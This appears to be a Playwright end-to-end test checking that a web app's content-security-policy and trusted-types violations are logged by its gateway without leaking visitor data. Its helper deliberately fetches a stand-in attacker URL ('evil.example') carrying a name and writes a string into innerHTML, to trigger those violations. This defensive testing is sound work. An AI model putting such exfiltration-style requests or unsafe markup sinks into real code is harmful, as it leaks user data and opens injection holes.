import { expect, type Page } from '@playwright/test';
import { openTestEnvironment } from '../support/test-environment.ts';
import { test } from '../support/first-use.ts';

// Policy violations reach the operator, not just the visitor's console.

/** Does what no page of ours does: violates an enforced policy, and turns a string into markup. */
const misbehave = (page: Page): Promise<void> =>
  page.evaluate(async () => {
    // Code called by the browser driver may bypass the page's policy.
    await new Promise((resolve) => setTimeout(resolve));
    await fetch('https://evil.example/Ann-Lee').catch(() => undefined);
    try {
      document.createElement('div').innerHTML = '<b>Ann Lee</b>';
    } catch {
      // Blocked if enforced.
    }
  });

// With a real project browsers only report markup from strings; what they reject is in tampered-files.e2e.ts.
test("a violation is in the gateway's log, whether it was stopped or only reported", async ({ browser, baseURL }) => {
  const testEnv = await openTestEnvironment(String(baseURL), { gateway: { TRUSTED_TYPES: 'report' } });
  const page = await (await browser.newContext({ baseURL: testEnv.url })).newPage();
  await page.goto('/about?q=Quxworthy');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await misbehave(page);
  const fetched = await testEnv.logged(({ msg, directive }) => msg === 'policy report' && directive === 'connect-src');
  expect([fetched['page'], fetched['disposition'], fetched['blocked']]).toEqual([
    '/about',
    'enforce',
    'https://evil.example',
  ]);
  const typed = await testEnv.logged(
    ({ msg, directive }) => msg === 'policy report' && directive === 'require-trusted-types-for',
  );
  expect([typed['page'], typed['disposition'], typed['blocked'], typed['sink']]).toEqual([
    '/about',
    'report',
    'trusted-types-sink',
    'Element innerHTML',
  ]);
  expect(JSON.stringify([fetched, typed])).not.toMatch(/Quxworthy|Ann/);
  await page.context().close();
  await testEnv.close();
});
